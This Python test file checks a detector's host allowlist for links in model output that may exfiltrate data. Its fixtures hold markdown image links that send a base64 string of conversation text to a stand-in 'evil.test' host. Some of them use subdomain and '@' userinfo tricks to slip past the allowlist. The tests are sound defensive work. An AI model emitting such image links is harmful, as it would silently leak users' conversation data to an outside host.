from collections.abc import Sequence

import pytest

from detectors.checks.links import Links
from detectors.contract.exchange import Origin, TextPart
from detectors.contract.finding import Coverage, Finding, Inspection
from service.policy.hosts import without

DATA = "dGhlIHVzZXIgc2FpZCB0aGF0"
GOOD, EVIL = f"![](https://img.good.test/?d={DATA})", f"![](https://evil.test/?d={DATA})"


def inspected(text: str, found: Sequence[Finding] | None = None) -> Inspection:
    part = TextPart(pointer="/a", origin=Origin.MODEL, text=text)
    return Inspection(
        parts=(part,),
        findings=tuple(Links().judge([part])[0] if found is None else found),
        runs=(),
        coverage=Coverage(seen=1, inspected=1),
    )


@pytest.mark.parametrize(
    ("text", "hosts", "left"),
    [
        (GOOD, (), 1),
        (GOOD, ("good.test",), 1),
        (GOOD, ("img.good.test",), 0),
        (GOOD, ("*.good.test",), 0),
        (EVIL, ("*.good.test",), 1),
        (GOOD + EVIL, ("*.good.test",), 1),
        (f"![](https://img.good.test.evil.test/?d={DATA})", ("*.good.test",), 1),
        (f"![](https://img.good.test@evil.test/?d={DATA})", ("*.good.test",), 1),
        (f"![](https://IMG.good.test:8443/?d={DATA})", ("*.good.test",), 0),
    ],
)
def test_a_link_to_a_host_that_may_be_sent_data_is_no_finding(
    text: str, hosts: tuple[str, ...], left: int
) -> None:
    assert len(without(inspected(text), hosts).findings) == left


def test_no_other_finding_is_taken_out() -> None:
    found = [
        Finding(label="harm", score=0.9, part="/a", detector="d", span=(4, 20)),
        Finding(label="data_exfiltration", score=0.9, part="/a", detector="d"),
    ]
    inspection = inspected(GOOD, found)
    assert without(inspection, ("*.good.test",)) == inspection
